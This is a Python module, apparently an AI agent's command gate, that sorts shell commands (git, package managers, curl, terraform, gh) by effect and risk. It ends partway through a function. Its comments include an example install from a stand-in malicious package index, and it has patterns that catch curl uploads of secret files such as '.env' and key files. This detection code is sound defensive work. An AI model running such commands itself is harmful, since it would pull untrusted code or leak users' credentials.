"""Shell commands, judged part by part: tree-sitter's bash grammar splits a command into its
simple commands (pipelines, `&&`, `;`, subshells, `$(…)`), redirections and prefixes
(`sudo`, `env`, `xargs`), and `bash -c '…'` is parsed again; each simple command is
classified by `classify_command`, whose word lists are `effects.toml`'s `[shell]` table.

Never raises: a command that does not parse, or is longer than `MAX_COMMAND_CHARS`, carries
its reason as `parse_error`, and the gate never allows it on the evidence alone.
"""

from __future__ import annotations

import fnmatch
import functools
import itertools
import re
import shlex
from collections.abc import Callable, Collection, Sequence
from dataclasses import replace
from typing import Any

from clef_tools.gate._effects import (
    MAX_COMMAND_CHARS,
    CallEffect,
    Effect,
    EffectKind,
    table,
)
from clef_tools.gate._insecure import (
    env_turns_off_checks,
    sed_turns_off_checks,
    turns_off_checks,
)
from clef_tools.gate._pycode import reads_only
from clef_tools.gate._weakened import sed_weakens_tests

__all__ = ["classify_command", "registry_as_said", "shell_effects"]

_MAX_NESTING = 3
#: Operands as broad as a whole disk, home or top-level folder (`/`, `~/*`, `/home/amy/*`).
_BROAD = re.compile(
    r"^(/|~/?|\$\{?HOME\}?/?|\.{1,2}/?|\*|/\*|(?:~|\$\{?HOME\}?|\.)/\*|/[a-z]+/?\*?"
    r"|/(?:home|Users)/[^/\s]+/?\*?|/root/?\*?)$"
)
_SENDING_CURL = frozenset(
    {"d", "F", "T", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--form"}
    | {"--upload-file", "--json"}
)


def _words(name: str) -> frozenset[str]:
    return table().shell[name]


def _flags(argv: Sequence[str]) -> set[str]:
    """Every single-letter flag (`-rf` → r, f) and long flag (`--force`)."""
    out: set[str] = set()
    for a in argv:
        if a.startswith("--"):
            out.add(a.split("=", 1)[0])
        elif a.startswith("-") and len(a) > 1:
            out.update(a[1:])
    return out


def _operands(
    argv: Sequence[str], value_flags: frozenset[str] = frozenset(), *, dash: bool = False
) -> list[str]:
    """The words that are not flags, nor the value of a flag that takes one (`--profile
    prod`, `-h host`; `--profile=prod` carries its own); `dash`: a lone `-` (standard input
    or output) counts as one."""
    return [
        a
        for n, a in enumerate(argv)
        if (not a.startswith("-") or (dash and a == "-")) and not (n and argv[n - 1] in value_flags)
    ]


def _after(argv: Sequence[str], word: str) -> list[str]:
    return list(argv[argv.index(word) + 1 :]) if word in argv else []


def _flag_values(
    args: Sequence[str], flags: Collection[str], inline: Collection[str] = ()
) -> list[str]:
    """What a command gives any of `flags` (`-X DELETE`), in order; then what it gives
    those of `inline` written with their value (`--method=DELETE`)."""
    spaced = [args[n + 1] for n, a in enumerate(args[:-1]) if a in flags]
    joined = [a.split("=", 1)[1] for a in args if "=" in a and a.split("=", 1)[0] in inline]
    return spaced + joined


def _flag_value(
    args: Sequence[str], flags: Collection[str], inline: Collection[str] = ()
) -> str | None:
    """The first value `_flag_values` finds, or None."""
    return next(iter(_flag_values(args, flags, inline)), None)


#: `git branch` flags that list branches (a pattern after `--list`, a commit after
#: `--merged`, are what to list by, not a branch to make).
_BRANCH_LISTS = frozenset(
    ["l", "--list", "--show-current", "--merged", "--no-merged", "--contains",
     "--no-contains", "--points-at"]
)  # fmt: skip


def _git_branch(rest: Sequence[str], flags: set[str], text: str) -> Effect:
    """`git branch` lists branches, but given a name it makes one, and `-f` moves a
    branch that exists onto another commit (`git branch -f main HEAD~3`: the commits
    after it are off the branch, found again only through the reflog)."""
    operands = [a for a in rest if not a.startswith("-")]
    if flags & _BRANCH_LISTS or not operands:
        return Effect("read", what=text)
    if flags & {"f", "--force", "C"}:
        return Effect("modify", reversible=False, high_impact=True, what=text)
    if flags & {"u", "--set-upstream-to", "--unset-upstream", "--edit-description"}:
        return Effect("configure", what=text)
    return Effect("create", what=text)


def _git_tag(rest: Sequence[str], flags: set[str], text: str) -> Effect:
    """`git tag` lists tags, but given a name it makes one, `-f` moves one that exists (a
    release tag others have fetched now names another commit), and `-d` deletes one."""
    if flags & {"d", "--delete"}:
        return Effect("delete", reversible=False, what=text)
    operands = [a for a in rest if not a.startswith("-")]
    lists = flags & {"l", "--list", "--contains", "--no-contains", "--points-at", "--merged"}
    if lists or not operands or (flags & {"v", "--verify"}):
        return Effect("read", what=text)
    return Effect("modify", reversible=not flags & {"f", "--force"}, what=text)


def _git(args: Sequence[str], text: str) -> list[Effect]:
    sub = next((a for a in args if not a.startswith("-")), "")
    rest = _after(args, sub)
    flags = _flags(rest)
    if sub in ("commit", "push", "merge", "am") and "--no-verify" in flags:
        # the project's hooks (its lint, its tests) skipped for this commit or push
        return [
            *_git([a for a in args if a != "--no-verify"], text),
            Effect("modify", what=text, action="weaken-tests"),
        ]
    if sub == "reflog" and rest[:1] in (["expire"], ["delete"]):
        # the record of where branches were, which is how lost commits are found again
        high = any(a.startswith("--expire") for a in rest) or "--all" in rest
        return [Effect("delete", reversible=False, high_impact=high, what=text)]
    if sub == "branch" and not flags & {"d", "D", "m", "M", "--delete", "--move"}:
        return [_git_branch(rest, flags, text)]
    if sub in _words("git_read") or (sub == "stash" and rest[:1] in (["list"], ["show"])):
        return [Effect("read", what=text)]
    if sub == "gc" and any(a == "--prune=now" or a == "--prune=all" for a in rest):
        return [Effect("delete", reversible=False, what=text)]  # unreachable commits gone now
    if sub == "worktree":
        return [_git_worktree(rest, flags, text)]
    if sub == "submodule":
        action = rest[:1][0] if rest[:1] else "status"
        if action in ("status", "summary"):
            return [Effect("read", what=text)]
        if action == "deinit":
            return [
                Effect(
                    "delete",
                    reversible=False,
                    high_impact=bool(flags & {"f", "--force"}),
                    what=text,
                )
            ]
        if action in ("update", "init", "sync", "add", "set-url", "set-branch", "absorbgitdirs"):
            return [Effect("modify", what=text)]
        return [Effect("unknown", what=text)]  # `foreach` runs a command in each
    if sub == "fetch":
        return [Effect("read", "external", what=text)]
    if sub == "remote":  # `git remote -v`, `git remote show origin` read; the rest configure
        listing = not [a for a in rest if not a.startswith("-")] or rest[:1] in (
            ["show"],
            ["get-url"],
        )
        return [Effect("read" if listing else "configure", what=text)]
    if sub in ("pull", "clone"):
        return [Effect("modify", "external", what=text)]
    if sub == "push":
        if flags & {"d", "--delete"} or any(a.startswith(":") and len(a) > 1 for a in rest):
            # `git push origin --delete topic`, `git push origin :topic`: the remote's branch
            # is deleted, nothing is sent
            return [
                Effect(
                    "delete",
                    "external",
                    reversible=False,
                    high_impact=True,
                    what=text,
                    action="delete-remote",
                )
            ]
        forced = bool(flags & {"f", "--force", "--force-with-lease", "--mirror"})
        forced = forced or any(a.startswith("+") for a in rest)
        return [Effect("send", "external", reversible=not forced, high_impact=forced, what=text)]
    if sub == "clean" and flags & {"n", "--dry-run"}:
        return [Effect("read", what=text)]  # `git clean -n`: what would go, listed
    if sub == "clean" and "f" in flags:
        # untracked files removed; with `-x`, the ignored ones too (`.env`, local data)
        ignored = bool(flags & {"x", "X"})
        return [Effect("delete", reversible=False, high_impact=ignored, what=text,
                       action="git-clean")]  # fmt: skip
    if sub == "reset" and "--hard" in flags:
        return [Effect("delete", reversible=False, high_impact=True, what=text)]
    if sub in ("checkout", "switch") and flags & {"f", "--force", "--discard-changes"}:
        # `git checkout -f main`: the uncommitted work in every file thrown away
        return [Effect("delete", reversible=False, high_impact=True, what=text)]
    if sub == "reset":  # --soft, --mixed: commits undone, the work kept (the reflog has them)
        return [Effect("modify", what=text)]
    if sub == "tag":
        return [_git_tag(rest, flags, text)]
    if sub == "apply" and flags & {"--check", "--stat", "--numstat", "--summary"}:
        return [Effect("read", what=text)]  # what a patch would change, shown
    if sub == "notes" and rest[:1] in ([], ["list"], ["show"]):
        return [Effect("read", what=text)]
    if sub in ("format-patch", "archive", "bundle"):
        return [Effect("create", what=text)]  # files made from the history, in the checkout
    if sub == "restore" and flags & {"S", "--staged"} and not flags & {"W", "--worktree"}:
        # `git restore --staged config.yml`: taken out of the index, the file left as it is
        return [Effect("modify", what=text, action="unstage")]
    if sub in ("checkout", "restore") and ("." in rest or "--" in rest or sub == "restore"):
        # `git checkout -- .`, `git restore .`: uncommitted work is thrown away
        action = "discard-changes" if sub == "restore" else ""
        return [Effect("delete", reversible=False, high_impact="." in rest, what=text,
                       action=action)]  # fmt: skip
    if sub == "branch" and flags & {"d", "--delete"} and not flags & {"D", "f", "--force"}:
        # git refuses to delete a branch not merged: its commits stay where it was merged
        return [Effect("delete", what=text)]
    if sub == "branch" and flags & {"m", "M", "--move"}:
        # a rename; `-M` renames over a branch of that name, whose commits go with it
        return [Effect("modify", reversible="M" not in flags, what=text, action="rename")]
    if sub == "branch" or (sub == "stash" and rest[:1] in (["drop"], ["clear"])):
        return [Effect("delete", reversible=False, what=text)]
    if sub in ("filter-branch", "filter-repo"):
        return [Effect("modify", reversible=False, high_impact=True, what=text)]
    if sub == "rebase":  # rewrites the branch's history; the reflog still has the old one
        return [Effect("modify", reversible=False, what=text)]
    if sub == "config":
        # `git config --list`, `--get user.email`, or a key alone: what is set, read
        keys = [a for a in rest if not a.startswith("-")]
        reads = flags & _GIT_CONFIG_READS or (len(keys) == 1 and not flags & _GIT_CONFIG_WRITES)
        return [Effect("read" if reads else "configure", what=text)]
    if (sub == "checkout" and "B" in flags) or (
        sub == "switch" and flags & {"C", "--force-create"}
    ):
        # a branch made again at HEAD: the commits it held are dropped from it
        return [Effect("modify", reversible=False, high_impact=True, what=text)]
    if sub == "commit" and "--amend" in flags:
        # the last commit rewritten: "commit these changes" asks for a new one
        return [Effect("modify", reversible=False, what=text, action="amend")]
    if sub == "cherry-pick" and any(".." in a for a in rest):
        # `git cherry-pick abc1234..main`: every commit after the one named, up to main
        return [Effect("modify", what=text, action="cherry-pick-range")]
    if sub in ("commit", "add", "stash", "merge", "cherry-pick", "switch", "checkout"):
        return [Effect("modify", what=text)]
    if sub == "rm":
        # tracked files removed (and staged so): the last commit still has them, unless
        # `--cached` keeps them on disk and only stops tracking them
        return [Effect("modify" if "--cached" in flags else "delete", what=text)]
    if sub in ("mv", "init", "apply", "revert", "am"):
        return [Effect("modify", what=text)]
    return [Effect("unknown", what=text)]


def _git_worktree(rest: Sequence[str], flags: set[str], text: str) -> Effect:
    """`git worktree list` reads; `add` makes a checkout beside the project; `remove`
    deletes one (git refuses when it holds changes, unless forced); `prune` forgets the
    records of ones already gone."""
    action = rest[:1][0] if rest[:1] else "list"
    if action == "list":
        return Effect("read", what=text)
    if action == "add":
        return Effect("create", what=text)
    if action == "remove":
        forced = bool(flags & {"f", "--force"})
        return Effect("delete", reversible=not forced, what=text)
    if action == "prune":
        return Effect("delete", what=text)
    if action in ("lock", "unlock", "move", "repair"):
        return Effect("modify", what=text)
    return Effect("unknown", what=text)


#: Tools that run a command inside the project's environment (`uv run pytest`).
_ENV_RUNNERS = frozenset(["uv", "poetry", "pipenv", "pdm", "hatch", "rye"])


def _packages(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    sub = next((a for a in args if not a.startswith("-")), "")
    if tool in _ENV_RUNNERS and sub == "run":
        # `uv run pytest`, `poetry run mypy src`: judged as what it runs
        rest = [a for a in _after(args, "run") if a != "--"]
        while rest and rest[0].startswith("-"):
            rest = rest[2:] if rest[0] in ("--with", "--env-file", "-e", "--python") else rest[1:]
        return _classify(rest, elevated=False) if rest else [Effect("unknown", what=text)]
    if tool == "yarn" and not sub:
        return [Effect("execute", what=text, routine=True)]  # `yarn`: the lockfile's install
    ops = _operands(_after(args, sub))
    lockfile = sub == "ci" or (sub in ("install", "i", "sync") and not ops)
    requirements = tool in ("pip", "pip3", "uv") and sub == "install" and "r" in _flags(args)
    # `pip install -e .`: the project itself, from the folder it is in
    requirements = requirements or (
        tool in ("pip", "pip3", "uv")
        and sub == "install"
        and bool(ops)
        and all(o in (".", "./", ".[dev]", ".[test]", ".[all]") or o.startswith(".[") for o in ops)
    )
    if sub == "cache":
        # pip's and npm's download caches: listed, or emptied and fetched again when needed
        if ops[:1] in (["purge"], ["remove"], ["clean"], ["rm"], ["clear"]):
            return [Effect("delete", what=text, action="rebuild", objects=("cache",))]
        if ops[:1] in (["info"], ["list"], ["ls"], ["dir"], ["verify"], []):
            return [Effect("read", what=text, objects=("cache",))]
    if sub == "index" and tool in ("pip", "pip3"):
        # `pip index versions django`: the versions the package index holds
        return [Effect("read", "external", what=text)]
    if sub == "audit" and "fix" in ops:
        # `npm audit fix`: the dependencies it finds vulnerable upgraded in place; with
        # `--force`, past their major versions (breaking changes the user did not pick)
        forced = "--force" in args
        return [
            Effect(
                "configure",
                "external",
                what=text,
                high_impact=forced,
                action="" if forced else "audit-fix",
            )
        ]
    if sub in (
        "ls",
        "list",
        "show",
        "view",
        "info",
        "outdated",
        "audit",
        "search",
        "freeze",
        "why",
        "explain",
        "whoami",
        "ping",
    ) or (tool in ("pip", "pip3", "uv") and sub == "check"):
        return [Effect("read", what=text)]  # `pip check`: installed requirements compared
    if (
        tool in ("npm", "pnpm", "yarn", "bun")
        and sub == "config"
        and ops[:1]
        in (
            ["get"],
            ["list"],
            ["ls"],
        )
    ):
        return [Effect("read", what=text)]
    if tool in ("npm", "pnpm", "yarn", "bun") and sub in (
        "test", "t", "run", "run-script", "start"
    ):  # fmt: skip
        # what the script's runner is handed (`npm test -- -u`, `yarn test -u`) is judged
        # as the runner's own flags
        handed = list(args[args.index("--") + 1 :]) if "--" in args else list(args)
        if tool == "npm" and "--" not in args:
            handed = []
        if _SNAPSHOT_FLAGS & set(handed):
            return [Effect("execute", what=text, routine=True, action="update-snapshots")]
        if _deselects(handed):
            return [Effect("execute", what=text, routine=True, action="weaken-tests")]
        if _fixes(tool, handed):
            # `npm run lint -- --fix`: the script's linter rewrites what it checks
            return [Effect("modify", what=text, routine=True, action="autofix")]
        return [Effect("execute", what=text, routine=True)]
    source = _package_source(args)
    if source and sub in ("install", "i", "add", "ci", "sync", "update", "upgrade", "up"):
        # `pip install -r requirements.txt --index-url http://pypi.evil.example/simple`:
        # the packages come from wherever the flag points, which must be the user's word
        names = tuple(_package_name(o) for o in ops if o not in ("install", "add"))
        return [Effect("configure", "external", what=text, objects=(source, *names))]
    if lockfile or requirements:
        # the project's own pinned dependencies
        return [Effect("execute", what=text, routine=True)]
    if sub == "lock" and tool in ("poetry", "uv", "pdm", "pipenv", "hatch"):
        # `poetry lock`, `uv lock`: the lockfile resolved anew for the pins the project
        # states; with `--upgrade` or `--regenerate`, every dependency moved within them
        moved = {"--upgrade", "-U", "--regenerate", "--update-all"} & set(args)
        return [Effect("configure" if moved else "modify", what=text)]
    if sub in ("update", "upgrade", "up") and not ops:
        # a bare `npm update`, `poetry update`: the project's own dependencies moved within
        # the ranges it pins, a change its lockfile's history undoes
        return [Effect("configure", what=text)]
    if sub in ("install", "i", "add", "update", "upgrade", "up"):
        # `pip install -U requests`, `yarn upgrade lodash`: versions change, as on an
        # install; what the user names is the package, not `lodash@latest`
        names = tuple(_package_name(o) for o in ops if o not in ("install", "add"))
        # `npm install -g lodash`: onto the machine, for every project, not into this one
        machine = tool in ("npm", "pnpm", "bun") and bool({"-g", "--global"} & set(args))
        return [
            Effect(
                "configure",
                "external",
                what=text,
                objects=names,
                packages=bool(names),
                action="global-install" if machine else "",
            )
        ]
    if sub in ("uninstall", "remove", "rm", "un"):
        return [Effect("delete", what=text)]
    if tool in ("npm", "pnpm", "yarn", "poetry", "bun") and sub == "version" and ops:
        # `npm version patch`: the version in package.json bumped (with a commit and a tag
        # where the project is a git checkout)
        return [Effect("modify", what=text)]
    if sub in ("publish", "upload") or (tool == "gem" and sub == "push"):
        return [_publish(tool, ops, text, args)]
    if tool in ("npm", "pnpm", "yarn", "gem") and sub in _REGISTRY_ADMIN:
        return [_registry_admin(sub, ops, args, text)]
    return [Effect("unknown", what=text)]


#: What a package's owner does to it on the registry, past publishing it.
_REGISTRY_ADMIN = frozenset(["unpublish", "deprecate", "owner", "token", "dist-tag", "yank"])


def _registry_admin(sub: str, ops: Sequence[str], args: Sequence[str], text: str) -> Effect:
    """`npm owner ls`, `npm token list`, `npm dist-tag ls` read the registry; `npm owner add`
    gives someone the right to publish, `npm token create` makes a key that can; `npm
    unpublish` and `gem yank` take a release back from everyone (the whole package, or
    with `--force`, more than one version); `npm deprecate` warns everyone who installs it."""
    verb = ops[0] if ops else ""
    named = tuple(_package_name(o) for o in ops[1:] if o) if sub in ("owner", "dist-tag") else ()
    if sub in ("owner", "token", "dist-tag") and verb in ("", "ls", "list"):
        return Effect("read", "external", what=text)
    if sub == "owner" and verb in ("add", "rm", "remove"):
        return Effect("grant", "external", reversible=True, what=text, objects=named)
    if sub == "token" and verb == "create":
        return Effect("grant", "external", what=text)
    if sub == "token" and verb in ("revoke", "rm", "delete"):
        return Effect("delete", "external", reversible=False, what=text)
    if sub == "dist-tag":
        return Effect("configure", "external", what=text, objects=named)
    if sub in ("unpublish", "yank"):
        versioned = any("@" in o[1:] for o in ops) or bool({"-v", "--version"} & set(args))
        whole = "--force" in args or "-f" in args or not versioned
        return Effect(
            "delete",
            "external",
            reversible=False,
            high_impact=whole,
            what=text,
            objects=_release_parts(ops),
        )
    return Effect("modify", "external", what=text, objects=_release_parts(ops[:1]))  # deprecate


def _release_parts(ops: Sequence[str]) -> tuple[str, ...]:
    """`mypkg@1.0.1` as the package and its version, the two names a user gives for it
    ("unpublish mypkg 1.0.1"); `@acme/x@2.0.0` keeps its scope."""
    out: list[str] = []
    for o in ops[:8]:
        name, at, version = o[1:].rpartition("@") if "@" in o[1:] else ("", "", o[1:])
        out += [o[0] + name, version] if at else [o]
    return tuple(p for p in out if p)


#: Flags that say where packages are fetched from (pip, uv, npm, yarn, pnpm).
_SOURCE_FLAGS = frozenset(
    ["--index-url", "-i", "--extra-index-url", "--find-links", "-f", "--trusted-host",
     "--registry", "--default-index", "--index"]
)  # fmt: skip


def _package_source(args: Sequence[str]) -> str:
    """The package index or registry a command's flag points at, if any."""
    for n, a in enumerate(args[:64]):
        flag, eq, value = a.partition("=")
        found = value if eq else (args[n + 1] if n + 1 < len(args) else "")
        if flag in _SOURCE_FLAGS and found:
            return found[:200]
        if flag in ("-r", "--requirement", "-c", "--constraint") and re.match(
            r"(?:https?|ftp)://", found
        ):
            return found[:200]  # `pip install -r https://…/reqs.txt`: a list from elsewhere
    return ""


_VERSION_SPEC = re.compile(r"(?<=.)(?:@|==|>=|<=|~=|!=|\^|>|<|=|\[).*$")


def _package_name(operand: str) -> str:
    """`lodash@latest` → `lodash`, `requests[socks]>=2` → `requests`, `@types/node@20` →
    `@types/node`; a path or a link stays whole."""
    if "://" in operand or operand.startswith((".", "/", "~")):
        return operand
    return _VERSION_SPEC.sub("", operand)


#: Where a tool publishes a package when no repository is named: the name a user gives it
#: ("publish it to npm", "upload the release to PyPI").
_REGISTRIES = {
    **dict.fromkeys(("npm", "pnpm", "yarn", "bun"), "npm"),
    **dict.fromkeys(("twine", "poetry", "uv", "flit", "hatch"), "pypi"),
    "cargo": "crates.io",
    "gem": "rubygems",
}


#: The words a user names each default registry by: its own ("npm", "PyPI"), then the
#: kind of thing it holds ("publish the crate"), which names it only while the user names
#: no other registry ("publish the package to PyPI" is no ask for `npm publish`).
_PACKAGE_WORDS = frozenset(["package", "library", "module"])
_REGISTRY_WORDS = {
    "npm": (frozenset(["npm", "npmjs", "npmjs.com"]), _PACKAGE_WORDS),
    "pypi": (frozenset(["pypi", "pypi.org", "warehouse"]), _PACKAGE_WORDS | {"wheel", "sdist"}),
    "crates.io": (frozenset(["crates.io", "crates", "crate"]), _PACKAGE_WORDS),
    "rubygems": (frozenset(["rubygems", "rubygems.org", "gem", "gems"]), _PACKAGE_WORDS),
    # PyPI's test instance: a registry of its own ("upload it to TestPyPI" is not PyPI)
    "testpypi": (frozenset(["testpypi", "test.pypi.org"]), frozenset()),
}


_TEST_PYPI = re.compile(r"\btest[\s-]+pypi\b")


def registry_as_said(name: str, said: str) -> str:
    """A publish's default registry (`crates.io` for `cargo publish`) as the user's word
    that names it, so that "publish the crate" is on what they named; any other name as
    it is."""
    if name not in _REGISTRY_WORDS:
        return name
    told = _TEST_PYPI.sub("testpypi", said[:20_000].lower())
    found = set(re.findall(r"[a-z][a-z0-9.]*[a-z0-9]", told))
    found |= {w.removesuffix("s") for w in found}
    own, kind = _REGISTRY_WORDS[name]
    hit = found & own
    if not hit and not any(found & o for r, (o, _) in _REGISTRY_WORDS.items() if r != name):
        hit = found & kind
    return min(hit) if hit else name


def _publish(tool: str, operands: Sequence[str], text: str, args: Sequence[str] = ()) -> Effect:
    """A package leaves for its registry: the registry is what it reaches, so "publish it
    to npm" names `npm publish`; one the command names (`twine upload -r testpypi`, `npm
    publish --registry https://npm.acme.example`) is the one it reaches. A path it
    publishes from is an object too, unless it is the project's build output (`twine
    upload dist/*`)."""
    given = _flag_values(args, _REGISTRY_FLAGS, _REGISTRY_FLAGS)[:1]
    named = given
    if given and (host := _PYPI_UPLOAD.match(given[0])) is not None:
        named = ["testpypi" if host.group(1) else "pypi"]  # its upload address, by its name
    paths = tuple(
        o
        for o in operands
        if o not in given
        and ("/" in o or o.startswith("."))
        and not _rebuilt(o.lstrip("./").split("/", 1)[0])
    )
    return Effect(
        "send",
        "external",
        reversible=False,
        what=text,
        objects=(*(named or [_REGISTRIES.get(tool, tool)]), *paths),
    )


_PYPI_UPLOAD = re.compile(r"https?://(test\.)?(?:upload\.)?pypi\.org(?:/|$)", re.I)
#: The flags that name where a publish goes (twine's and poetry's repository, npm's
#: registry, uv's and hatch's index).
_REGISTRY_FLAGS = frozenset(
    ["--repository", "-r", "--repository-url", "--registry", "--publish-url", "--index",
     "--index-url", "--repo"]
)  # fmt: skip


#: Subcommands of the system's package managers that only report (`brew outdated`, `dnf
#: check-update`, `apt depends curl`).
_SYSTEM_PACKAGE_READS = frozenset(
    ["list", "search", "show", "info", "policy", "outdated", "deps", "uses", "leaves", "desc",
     "doctor", "config", "depends", "rdepends", "changelog", "check-update", "repolist",
     "provides", "whatprovides", "repoquery"]
)  # fmt: skip


def _conda(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """conda and mamba: `conda env list` reports; an environment removed goes with every
    package in it (`conda env remove -n ml`, `conda remove -n ml --all`)."""
    ops = _operands(args, frozenset(["-n", "--name", "-p", "--prefix", "-c", "--channel"]))
    sub = " ".join(ops[:2]) if ops[:1] == ["env"] else next(iter(ops), "")
    named = tuple(_flag_values(args, ("-n", "--name")))[:4]
    if sub in ("list", "info", "search", "env list", "env export", "doctor"):
        return [Effect("read", what=text)]
    if sub in ("env remove", "remove", "uninstall") and ("--all" in args or sub == "env remove"):
        # an environment lives outside the project: the user names the one that goes
        return [Effect("delete", what=text, objects=named, system=True)]
    if sub in ("remove", "uninstall"):
        return [Effect("delete", what=text, objects=(*named, *ops[1:5]))]
    if sub in ("create", "env create"):
        return [Effect("create", what=text, objects=named, system=bool(named))]
    if sub in ("install", "update", "upgrade"):
        names = tuple(_package_name(o) for o in ops[1:9])
        return [Effect("configure", "external", what=text, objects=(*named, *names),
                       packages=bool(names))]  # fmt: skip
    return [Effect("unknown", what=text)]


def _system_packages(args: Sequence[str], text: str) -> list[Effect]:
    sub = next(iter(_operands(args)), "")
    if sub in _SYSTEM_PACKAGE_READS:
        return [Effect("read", what=text)]
    if sub in ("clean", "autoclean", "cleanup"):
        # the downloaded package files: fetched again when needed
        return [Effect("delete", what=text, action="clean")]
    removes = sub in ("remove", "purge", "autoremove", "uninstall")
    return [Effect("delete" if removes else "configure", what=text)]


#: `dpkg -l`, `rpm -qa`: queries of the package database; their other modes install or remove.
_PACKAGE_QUERIES = {
    "dpkg": frozenset(
        ["l", "L", "s", "S", "p", "--list", "--listfiles", "--status", "--search", "--print-avail",
         "--get-selections", "--audit", "--print-architecture", "--compare-versions"]
    ),
    "rpm": frozenset(["q", "V", "--query", "--verify", "--querytags", "--showrc"]),
}  # fmt: skip


def _package_database(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    flags = _flags(args)
    if flags & _PACKAGE_QUERIES[tool]:
        return [Effect("read", what=text)]
    removes = flags & {"r", "P", "e", "--remove", "--purge", "--erase"}
    return [Effect("delete" if removes else "configure", what=text)]


#: curl's short flags run together with a method (`-XDELETE`, `-sXPOST`).
_JOINED_METHOD = re.compile(r"^(-[a-zA-Z]*)X([A-Za-z]+)$")


def _curl(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    # `-XDELETE`, `-sXDELETE`: a flag with its value, not `-X -D -E -L -E -T -E`
    joined = [m for a in args if (m := _JOINED_METHOD.match(a))]
    flags = _flags([a for a in args if not _JOINED_METHOD.match(a)] + [m[1] for m in joined])
    method = _flag_value(args, ("-X", "--request"), ("--request",)) or next(
        (m[2] for m in joined), ""
    )
    if method.upper() == "DELETE" and not flags & _SENDING_CURL:
        # `curl -X DELETE http://localhost:9200/logs-2025.01`: the resource at the link
        # removed; a pattern in it (`logs-*`) removes every one it matches
        links = [o for o in _operands(args) if "/" in o]
        broad = any("*" in o for o in links)
        return [Effect("delete", "external", False, broad, what=text, objects=tuple(links[:4]))]
    if flags & _SENDING_CURL or method.upper() in ("POST", "PUT", "PATCH", "DELETE"):
        links = [
            o
            for o in _operands(args, _CURL_VALUE_FLAGS)
            if "." in o or ":" in o or o.startswith("localhost")
        ]
        if links and all(_LOOPBACK.match(o) for o in links) and not _UPLOADS_FILE.search(text):
            # `curl -X POST localhost:9200/_reindex -d '{…}'`: a request to a service the
            # user runs on this machine, which nothing of theirs leaves; what it changes
            # there is the service's to say (so it is no read, and no change known to be
            # undone)
            return [Effect("modify", reversible=False, what=text, objects=tuple(links[:4]))]
        return [Effect("send", "external", reversible=False, what=text)]
    written = _flag_values(args, ("-o", "--output", "-O"))
    discarded = bool(written) and all(w in _HARMLESS_TARGETS for w in written)
    if (tool == "wget" or flags & {"o", "O", "--output"}) and not (tool == "curl" and discarded):
        return [Effect("create", "external", what=text, fetched=True)]
    # `curl -s -o /dev/null -w '%{http_code}' …`: the body thrown away, the status read
    links = [
        o
        for o in _operands(args, frozenset(["-o", "--output", "-w", "--write-out", "-H"]))
        if "." in o or ":" in o or o.startswith("localhost")
    ]
    # `curl -s http://localhost:8000/health`: the service the user runs on this machine
    here = bool(links) and all(_LOOPBACK.match(o) for o in links)
    return [Effect("read", "local" if here else "external", what=text)]


#: curl's flags that take a value: a header, a method, a body, a file to write.
_CURL_VALUE_FLAGS = frozenset(
    ["-H", "--header", "-X", "--request", "-d", "--data", "--data-raw", "--data-binary",
     "--data-urlencode", "--json", "-o", "--output", "-u", "--user", "-A", "--user-agent",
     "-e", "--referer", "-b", "--cookie", "-F", "--form", "-T", "--upload-file"]
)  # fmt: skip
#: A file's contents sent (`-d @.env`, `-F file=@key.pem`, `-T backup.sql`): what leaves
#: is the file, wherever the request goes.
_UPLOADS_FILE = re.compile(
    r"(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form)\s*\S*@"
    r"|(?:^|\s)(?:-T|--upload-file)\b"
)

_LOOPBACK = re.compile(
    r"^(?:https?://)?(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0)(?::\d+)?(?:/\S*)?$",
    re.I,
)


def _terraform_local(operands: Sequence[str], args: Sequence[str], text: str) -> Effect | None:
    """Terraform's commands that touch only this checkout: the configuration checked
    (`validate`), described (`providers`, `graph`, `version`, `output`), formatted (`fmt`, which
    rewrites the files unless told `-check`), and the workspace the next commands act on
    listed or picked (`workspace select staging`)."""
    sub = operands[0] if operands else ""
    if sub in ("validate", "providers", "graph", "version") or (
        sub == "workspace" and operands[1:2] in (["list"], ["show"])
    ):
        return Effect("read", what=text)
    if sub == "output":
        # the state's outputs, from wherever the state is kept (sensitive ones masked)
        return Effect("read", "external", what=text)
    if sub == "fmt":
        if "-check" in args or "--check" in args:
            return Effect("read", what=text)
        return Effect("modify", what=text, routine=True, action="format-in-place")
    if sub == "workspace" and operands[1:2] == ["select"]:
        return Effect("modify", what=text, objects=tuple(operands[2:3]))
    if sub == "state" and operands[1:2] in (["list"], ["show"], ["pull"]):
        return Effect("read", "external", what=text)
    if (sub == "state" and operands[1:2] in (["rm"], ["mv"])) or sub == "import":
        # what terraform tracks changed, not the resources themselves (`state rm` forgets
        # one and leaves it standing; `import` takes one in)
        return Effect("modify", "external", what=text, objects=tuple(operands[2:4]))
    if sub == "init":
        if {"-migrate-state", "-force-copy"} & set(args):
            return Effect("modify", "external", reversible=False, what=text)
        if "-upgrade" in args:
            return Effect("configure", "external", what=text, action="upgrade")
        # the providers and modules the configuration pins, fetched into .terraform
        return Effect("execute", what=text, routine=True)
    return None


def _public_acl(args: Sequence[str]) -> bool:
    """A cloud CLI's access list that lets anyone read (`--acl public-read`, `AllUsers`)."""
    acl = " ".join(_flag_values(args, ("--acl", "-a", "--grants"), ("--acl", "--grants")))
    return re.search(r"public|allusers|authenticated", acl, re.I) is not None


#: `gh api`'s flags that send fields, which make the request a POST unless told otherwise.
_GH_API_FIELDS = frozenset(["-f", "-F", "--field", "--raw-field", "--input"])
_GH_VALUE_FLAGS = _GH_API_FIELDS | frozenset(
    ["-X", "--method", "-H", "--header", "-q", "--jq", "-t", "--template", "--ref", "-R",
     "--repo", "-b", "--branch", "-L", "--limit", "-w", "--workflow", "-u", "--user"]
)  # fmt: skip


def _gh_actions(args: Sequence[str], text: str) -> list[Effect] | None:
    """GitHub's CLI on a repository's Actions and its REST API: a run watched or read, run
    again or cancelled; a workflow started, switched on or off; `gh api` a read unless it
    sends fields or names another method (a `DELETE` deletes; any other write is unknown)."""
    operands = _operands(args, _GH_VALUE_FLAGS)
    group, sub = [*operands[:2], "", ""][:2]
    rest = tuple(operands[2:3])
    if group == "run" and sub in ("watch", "view", "list"):
        return [Effect("read", "external", what=text)]
    if group == "run" and sub == "download":
        return [Effect("create", "external", what=text, objects=rest, fetched=True)]
